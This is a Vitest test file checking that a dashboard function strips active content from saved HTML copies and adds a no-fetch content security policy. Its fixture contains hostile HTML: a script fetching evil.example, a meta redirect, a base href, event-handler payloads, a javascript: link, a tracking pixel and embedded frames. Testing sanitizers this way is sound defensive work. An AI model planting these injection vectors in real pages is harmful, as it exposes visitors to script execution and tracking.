// @vitest-environment happy-dom
// @vitest-environment-options {"settings": {"handleDisabledFileLoadingAsSuccess": true}}
import { describe, expect, it } from 'vitest';
import { COPY_POLICY, neutralizedCopy } from '../../../../src/dashboard/evidence/neutralize-copy';

const hostile = `<!DOCTYPE html>
<html lang="en"><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<script>fetch('https://evil.example/opened')</script><style>p{color:red}</style></head>
<body onload="window.pwned=1"><p id="q">Lumen is a scam</p>
<a href="javascript:window.pwned=1">link</a><a href="https://elsewhere.example/">ok</a>
<img src="https://evil.example/pixel.gif" onerror="window.pwned=1">
<iframe src="https://evil.example/"></iframe><svg><script>window.pwned=1</script></svg>
<object data="https://evil.example/x.swf"></object></body></html>`;

describe('a kept HTML copy, made safe to open', () => {
  const safe = neutralizedCopy(hostile, 'a'.repeat(64));
  const doc = new DOMParser().parseFromString(safe, 'text/html');

  it('keeps the page’s text and styles', () => {
    expect(doc.getElementById('q')?.textContent).toBe('Lumen is a scam');
    expect(doc.querySelector('style')?.textContent).toBe('p{color:red}');
    expect(doc.documentElement.getAttribute('lang')).toBe('en');
  });

  it('has no script, frame, plug-in, base, link, redirect or event handler left', () => {
    expect(doc.querySelectorAll('script, iframe, object, base, link').length).toBe(0);
    expect(doc.querySelector('meta[http-equiv="refresh"]')).toBeNull();
    expect(doc.body.getAttribute('onload')).toBeNull();
    expect(doc.querySelector('img')?.getAttribute('onerror')).toBeNull();
    expect([...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
      null,
      'https://elsewhere.example/',
    ]);
  });

  it('opens with a policy that runs and fetches nothing, and names the exact copy’s hash', () => {
    const first = doc.head.firstElementChild;
    expect(first?.getAttribute('charset')).toBe('utf-8');
    const policy = doc.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(policy?.getAttribute('content')).toBe(COPY_POLICY);
    expect(COPY_POLICY).toMatch(/default-src 'none'/);
    expect(safe).toContain(`SHA-256 is ${'a'.repeat(64)}`);
    expect(safe.startsWith('<!DOCTYPE html>\n<html lang="en">')).toBe(true);
  });
});
